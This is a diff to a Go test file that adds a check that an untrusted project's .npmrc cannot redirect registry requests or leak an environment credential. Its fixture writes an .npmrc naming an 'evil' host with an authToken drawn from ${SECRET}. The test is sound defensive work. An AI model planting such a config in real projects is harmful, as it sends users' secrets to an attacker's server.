@@ -432,7 +432,7 @@ func TestPrivateRegistry(t *testing.T) {
 		Environ: []string{"CORP_TOKEN=s3cret-token", "npm_config_registry=" + cdn.URL + "/", "npm_config_globalconfig=/nonexistent"},
 		Home:    home,
 	})
-	d, err := p.Describe(context.Background(), sdk.DescribeRequest{Package: sdk.PackageRef{Name: "@corp/is", ProjectPath: project}})
+	d, err := p.Describe(context.Background(), sdk.DescribeRequest{Package: sdk.PackageRef{Name: "@corp/is", ProjectPath: project, ProjectTrusted: true}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -455,6 +455,58 @@ func TestPrivateRegistry(t *testing.T) {
 	out := answer.RenderDocument(d, answer.RenderOptions{})
 	if strings.Contains(out, "s3cret") || strings.Contains(strings.Join(d.Notes, " "), "s3cret") {
 		t.Error("token in output")
+	}
+}
+
+// TestUntrustedProjectNpmrc: a project the user did not choose (an
+// agent's projectPath outside the roots) whose .npmrc names another host,
+// with a credential taken from the environment, sends nothing to that
+// host: the registry comes from the user's configuration, the version
+// still from the project, and a Note says the .npmrc was left out. The
+// same project trusted uses that host, with the credential.
+func TestUntrustedProjectNpmrc(t *testing.T) {
+	good := registrytest.New(t, "testdata/registry")
+	evil := registrytest.New(t, "testdata/registry")
+	project := t.TempDir()
+	rc := "registry=" + evil.URL + "/\n//" + strings.TrimPrefix(evil.URL, "http://") + "/:_authToken=${SECRET}\n"
+	if err := os.WriteFile(filepath.Join(project, ".npmrc"), []byte(rc), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(project, "package.json"), []byte(`{"dependencies":{"is-number":"7.0.0"}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	home := t.TempDir() // the user's ~/.npmrc names the user's registry
+	if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte("registry="+good.URL+"/\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	env := []string{"SECRET=aws-s3cret", "npm_config_globalconfig=/nonexistent"}
+	p := New(Config{Environ: env, Home: home})
+	d, err := p.Describe(context.Background(), sdk.DescribeRequest{Package: sdk.PackageRef{Name: "is-number", ProjectPath: project}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := len(evil.Requests()); n != 0 {
+		t.Errorf("untrusted project: %d requests to the host its .npmrc names: %+v", n, evil.Requests())
+	}
+	if d.Version != "7.0.0" || d.Source.Kind != sdk.SourceManifest || len(good.Requests()) == 0 {
+		t.Errorf("untrusted project: got %s from %v, %d requests to the user's registry", d.Version, d.Source, len(good.Requests()))
+	}
+	if !slices.ContainsFunc(d.Notes, func(n string) bool { return strings.Contains(n, ".npmrc was not used") }) {
+		t.Errorf("no note on the ignored .npmrc: %q", d.Notes)
+	}
+
+	// The user chose it: its registry and credential are used.
+	p = New(Config{Environ: env, Home: home})
+	if _, err := p.Describe(context.Background(), sdk.DescribeRequest{Package: sdk.PackageRef{Name: "is-number", ProjectPath: project, ProjectTrusted: true}}); err != nil {
+		t.Fatal(err)
+	}
+	if len(evil.Requests()) == 0 {
+		t.Fatal("trusted project: its .npmrc registry was not used")
+	}
+	for _, r := range evil.Requests() {
+		if r.Authorization != "Bearer aws-s3cret" {
+			t.Errorf("trusted project: request without its credential: %+v", r)
+		}
 	}
 }
 
